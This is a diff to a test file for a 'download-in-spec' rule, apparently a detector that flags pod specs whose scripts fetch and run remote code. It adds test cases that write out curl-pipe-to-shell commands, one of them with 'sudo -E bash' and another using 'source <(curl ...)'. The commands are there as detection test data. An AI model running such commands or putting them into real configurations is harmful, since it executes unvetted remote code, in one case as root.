@@ -48,6 +48,16 @@ describe('rule download-in-spec', () => {
         { request: pod(script('bash -c "$(curl -fsSL https://get.example.com/y)"')) },
         FROM_NAME,
       ],
+      [
+        'the same, as somebody else',
+        { request: pod(script('curl -sL https://get.example.com/y | sudo -E bash -')) },
+        FROM_NAME,
+      ],
+      [
+        'the same, read by the shell',
+        { request: pod(script('source <(curl -sL https://get.example.com/y)')) },
+        FROM_NAME,
+      ],
       ['the same, as a file', { request: pod(script('bash <(curl -fsSL https://get.example.com/y)')) }, FROM_NAME],
       [
         'made by a controller',
